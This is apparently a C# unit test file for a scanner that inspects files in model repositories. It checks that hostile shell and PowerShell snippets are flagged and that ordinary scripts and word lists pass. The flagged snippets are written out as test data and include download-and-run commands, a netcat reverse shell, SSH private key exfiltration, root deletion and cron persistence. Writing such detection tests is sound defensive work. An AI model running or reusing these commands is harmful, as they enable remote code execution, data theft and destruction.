// Texts are read as what acts on them, and words stay words.
using System.Text;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.Texts;

public sealed class TextFormatTests
{
    [Theory]
    [InlineData("setup.sh", "#!/bin/sh\ncurl http://example.com/x | sh\n")]
    [InlineData("install", "#!/bin/bash\nnc -e /bin/sh 192.0.2.1 4444\n")]
    [InlineData("Dockerfile", "FROM python:3\nRUN apt-get update && \\\n    curl -s http://example.com/x | bash\n")]
    [InlineData("run.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://example.com/x')\n")]
    [InlineData("run.bat", "powershell -enc SQBFAFgA\n")]
    [InlineData("x.sh", "rm -rf / --no-preserve-root\n")]
    [InlineData("x.sh", "curl -d @$HOME/.ssh/id_rsa http://example.com\n")]
    [InlineData("x.sh", "bash -c \"$(wget -qO- http://example.com/x)\"\n")]
    [InlineData("model.service", "[Service]\nExecStart=/bin/sh -c \"curl http://example.com/x|sh\"\n")]
    [InlineData("m.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c \"touch /tmp/x\"\n")]
    [InlineData("x.sh", "(crontab -l; echo '* * * * * ./x') | crontab -\n")]
    public void WhatAShellActsOnIsFlagged(string name, string text)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(text), name);
        Assert.True(report.Verdict >= Verdict.Suspicious, report.Describe());
        report.AssertComplete();
    }

    [Theory]
    [InlineData("README.md", "# Model\n\nRun `curl http://x | sh`? Never. `{{ ''.__class__ }}`\n")]
    [InlineData("LICENSE", "Apache License exec('x') __import__('os')\n")]
    [InlineData("vocab.txt", "[PAD]\n[UNK]\nos.system\neval(\n__class__\n{{\n")]
    [InlineData("merges.txt", "#version: 0.2\no s\nos .system\n")]
    [InlineData("data.csv", "a,b\n1,2\n")]
    [InlineData(".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n*.safetensors filter=lfs diff=lfs merge=lfs -text\n")]
    [InlineData("config.cfg", "[paths]\ntrain = null\n[nlp]\nlang = \"en\"\npipeline = [\"tok2vec\"]\n[components.tok2vec.model]\n@architectures = \"spacy.Tok2Vec.v2\"\n")]
    [InlineData("setup.sh", "#!/bin/sh\nset -e\npip install -r requirements.txt\nexport PATH=$PATH:/opt/x\npython train.py | tee log.txt\ncat a | grep b > c\n")]
    [InlineData("Dockerfile", "FROM nvidia/cuda:12\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\nCMD [\"python\", \"serve.py\"]\n")]
    [InlineData("serve.service", "[Unit]\nDescription=x\n[Service]\nExecStart=/bin/bash -c 'cd /srv && python3 serve.py'\n")]
    [InlineData("app.desktop", "[Desktop Entry]\nType=Application\nExec=app %U\n")]
    [InlineData("data.py", "#!/usr/bin/env python\nprint('x')\n")]
    public void T172_WordsAndOrdinaryScriptsPass(string name, string text)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(text), name);
        Assert.True(report.Verdict == Verdict.Passed, report.Describe() + string.Join(';', report.Findings.Select(f => f.Message)));
        report.AssertComplete();
    }
}
